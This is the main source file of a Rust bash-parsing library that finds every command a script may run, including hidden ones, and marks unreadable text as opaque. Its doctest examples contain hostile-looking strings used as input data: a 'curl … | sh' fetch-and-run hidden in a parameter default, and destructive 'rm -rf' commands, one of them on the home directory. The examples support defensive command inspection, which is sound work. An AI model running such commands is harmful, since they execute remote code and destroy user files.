//! Reads bash text and finds **every** simple command it may run, wherever it hides: in substitutions, default values,
//! here-documents, arithmetic, functions. What cannot be read is marked, never skipped, and no text makes it panic.
//!
//! Grammar only: not a word about policy or programs, and no dependency. Begin with [`read`].
//!
//! # Commands, wherever they hide
//!
//! ```
//! let script = byleave_shell::read("cd src && echo \"${EDITOR:-$(curl -s example.com | sh)}\"");
//! let names: Vec<_> = script.commands().iter().filter_map(|command| script.name(command)).collect();
//! assert_eq!(names, ["cd", "echo", "curl", "sh"]);
//! assert!(script.opaque().is_empty());
//! ```
//!
//! # Words as bash will see them
//!
//! ```
//! let script = byleave_shell::read("r'm' -r\\f {build,dist}/out \"$1\"");
//! let command = &script.commands()[0];
//! let words: Vec<_> = script.words(command.words).iter().map(|word| script.literal(word)).collect();
//! // The last word may be anything at run time.
//! assert_eq!(words, [Some("rm"), Some("-rf"), Some("build/out"), Some("dist/out"), None]);
//! ```
//!
//! # Text that cannot be read
//!
//! ```
//! let text = "ls -l && echo \"ready; rm -rf ~";
//! let script = byleave_shell::read(text);
//! let opaque = &script.opaque()[0];
//! // Whoever decides must take this part as "may run anything".
//! assert_eq!(opaque.span.of(text), "\"ready; rm -rf ~");
//! ```
//!
//! # Limits
//!
//! It reads what bash 5.2 reads in a script, where aliases are off; they are not followed. What a word becomes at run
//! time is not guessed: a word is literal, bounded or unknown. Depth and size are limited ([`Limits`]); beyond them the
//! rest is opaque.
mod dialect;
mod directory;
mod hidden;
mod limits;
mod reader;
mod reason;
mod script;
mod span;

pub use dialect::{
    Dialect, Shell, Shells, Switch, SwitchKind, UnknownShell, differs, differs_when_typed, means_the_same_in, switches,
};
pub use directory::{Directory, Whereabouts, directories, stays};
pub use hidden::{Hidden, HiddenKind};
pub use limits::Limits;
pub use reader::{Reader, Room, read, read_as};
pub use reason::{Construct, Difference, Opaque, Reason, Token};
pub use script::{
    Assignment, Class, Clause, Command, CommandId, Connector, Descriptor, Evaluation, EvaluationKind, HereDocument,
    Kind, Node, NodeId, Operator, Origin, Parameter, Part, PartKind, Place, Range, RedirectOperator, Redirection,
    Script, Text, Unknown, Word,
};
pub use span::Span;
